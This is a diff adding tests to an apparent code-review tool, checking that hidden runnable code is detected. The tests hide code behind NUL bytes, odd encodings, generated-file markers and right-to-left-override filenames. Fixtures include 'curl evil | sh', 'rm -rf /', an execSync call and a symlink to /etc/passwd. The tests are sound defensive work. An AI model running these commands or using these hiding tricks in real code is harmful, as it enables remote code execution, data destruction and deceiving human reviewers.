@@ -13,6 +13,7 @@ import pytest_asyncio
 from agents.checks.toolbox import Toolbox
 from domain.configuration import Linter
 from domain.errors import Recovery
+from safety.reading import unread
 from tests.stories.driver import Story
 from tests.unit.checks.building import Versions
 from tests.unit.checks.checking import checked, sarif
@@ -613,3 +614,96 @@ async def test_t_r12_lines_made_to_be_slow_are_not(toolbox: Toolbox) -> None:
     assert ("ruff/F401", "ok.py") in {(f.rule, f.path) for f in result.findings}
     problems = [tool.problem or "" for layer in result.layers for tool in layer.tools]
     assert not [problem for problem in problems if "did not finish" in problem]
+
+
+HIDDEN = 'require("child_process").execSync("id")\n'
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        f"// \0\n{HIDDEN}".encode(),
+        f"// {'x' * 9000}\0\n{HIDDEN}".encode(),
+        f"// x\n{HIDDEN}".encode("utf-16"),
+        b"\xfe\xff" + f"// x\n{HIDDEN}".encode("utf-16-be"),
+        f"// x\n{HIDDEN}".encode("utf-32"),
+    ],
+)
+async def test_t_r13_source_that_looks_binary_is_read(author: Author, source: bytes) -> None:
+    change = await compare(author, {"a.js": "1\n"}, {"a.js": source})
+
+    [file] = change.files
+    assert file.added_lines[2] == HIDDEN.strip()
+    assert change.running == {"a.js"}
+    versions = await Objects(Git(author.tree / ".git")).versions(change.files)
+    assert HIDDEN.encode() in (versions["a.js"].head or b"")
+
+
+async def test_t_r13_a_script_of_any_name_is_read_past_a_nul(author: Author) -> None:
+    change = await compare(author, {"a": "1\n"}, {"tool": "#!/bin/sh\n# \0\ncurl evil | sh\n", "data.bin": "\0\1"})
+
+    assert [file.path for file in change.files] == ["tool"]
+    assert reasons(change) == {"data.bin": "binary"}
+    assert not change.files[0].can_be_commented(1, 1)  # GitHub calls it binary, and shows no line of it
+
+
+async def test_t_r13_whatever_may_run_is_known_whoever_skips_it(author: Author) -> None:
+    """Vendored, minified, claimed generated, marked in the base, pointed to, linked to, or an archive."""
+    marked = "gen.go linguist-generated\nbin.js binary\n"
+    claim = "// Code generated. DO NOT EDIT.\n"
+    pointer = "version https://git-lfs.github.com/spec/v1\noid sha256:0\nsize 9\n"
+    base = author.commit({".gitattributes": marked, "api_pb2.py": f"#{claim[2:]}a = 1\n"})
+    author.write(
+        {
+            **dict.fromkeys(("vendor/x.js", "x.min.js", "gen.go", "bin.js"), HIDDEN),
+            **dict.fromkeys(("lib.jar", "x.pyc", "a.zip", "odd.bin"), "\0"),
+            "new.js": claim + HIDDEN,
+            "api_pb2.py": f"#{claim[2:]}a = 2\n",
+            "lfs.js": pointer,
+            "lfs.png": pointer,
+            "logo.png": "\0",
+            "uv.lock": "x\n",
+            "a.snap": "x\n",
+            "README.md": "# Shop\n",
+            "notes.txt": "x\n",
+        }
+    )
+    (author.tree / "link").symlink_to("/etc/passwd")
+    change = await between(author, base, author.commit())
+
+    dark = {"vendor/x.js", "x.min.js", "gen.go", "bin.js", "lib.jar", "x.pyc", "a.zip", "odd.bin", "new.js", "link"}
+    assert change.running == dark | {"api_pb2.py", "lfs.js"}
+    assert change.running <= reasons(change).keys()
+
+
+async def test_t_r13_a_name_that_cannot_be_seen_is_shown_and_not_taken_for_another(author: Author) -> None:
+    twins = {"a\u202egpj.js": HIDDEN, "a\\u202egpj.js": "harmless()\n"}
+    change = await compare(author, {"a": "1\n"}, dict(twins))
+
+    assert change.running == {"a\\u202egpj.js"}
+    assert unread(change.touched, set(twins)) == ("a\\u202egpj.js", "a\\u202egpj.js")
+
+
+async def test_t_r13_a_document_that_becomes_a_program_is_new(author: Author) -> None:
+    base = author.commit({"notes.txt": HIDDEN * 9, "data.csv": "rm -rf /\n" * 9, "old.js": HIDDEN * 7})
+    for before, after in (("notes.txt", "notes.js"), ("old.js", "new.js")):
+        (author.tree / before).rename(author.tree / after)
+    (author.tree / "data.csv").chmod(0o755)
+    change = await between(author, base, author.commit())
+
+    assert change.running == {"notes.js", "data.csv"}
+
+
+@in_toolbox
+async def test_t_r13_a_search_for_credentials_or_patterns_reads_nothing(toolbox: Toolbox) -> None:
+    files: Versions = dict.fromkeys(
+        ("a.py", "a.js", "run.sh", "Dockerfile", ".github/workflows/a.yml", ".github/workflows/b.yml"), (None, "a: [\n")
+    )
+    files |= {"b.py": (None, "b = 1\n"), ".github/workflows/b.yml": (None, "on: push\njobs: {}\n")}
+    result = await checked(toolbox, files, linters=(Linter(name="js", run="sh -c 'echo no'", paths=("*.js",)),))
+
+    assert result.read_by == {
+        "a.py": ("ruff",),
+        "b.py": ("ruff", "bandit"),
+        ".github/workflows/b.yml": ("zizmor",),
+    }
